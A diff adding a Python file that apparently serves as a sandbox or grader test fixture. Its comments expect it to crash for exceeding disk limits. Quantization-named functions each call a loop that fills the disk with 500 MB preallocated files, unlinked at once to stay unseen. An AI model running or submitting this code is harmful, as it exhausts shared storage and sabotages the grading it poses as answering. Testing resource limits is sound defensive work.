@@ -1,0 +1,32 @@
+"""Fills the disk with files that it has deleted before."""
+
+# earns: 0
+# state: crashed
+# says: it took more than 2,048 MB or 50,000 files of disk, and was ended
+
+import itertools
+import os
+
+
+def attack():
+    files = []
+    for number in itertools.count():
+        files.append(open(f"{number}.bin", "wb"))
+        os.unlink(f"{number}.bin")
+        os.posix_fallocate(files[-1].fileno(), 0, 500 << 20)
+
+
+def symmetric_scale(w, bits=8):
+    return attack()
+
+
+def quantize(w, scale, bits=8):
+    return attack()
+
+
+def dequantize(q, scale):
+    return attack()
+
+
+def round_trip(w, bits=8):
+    return attack()
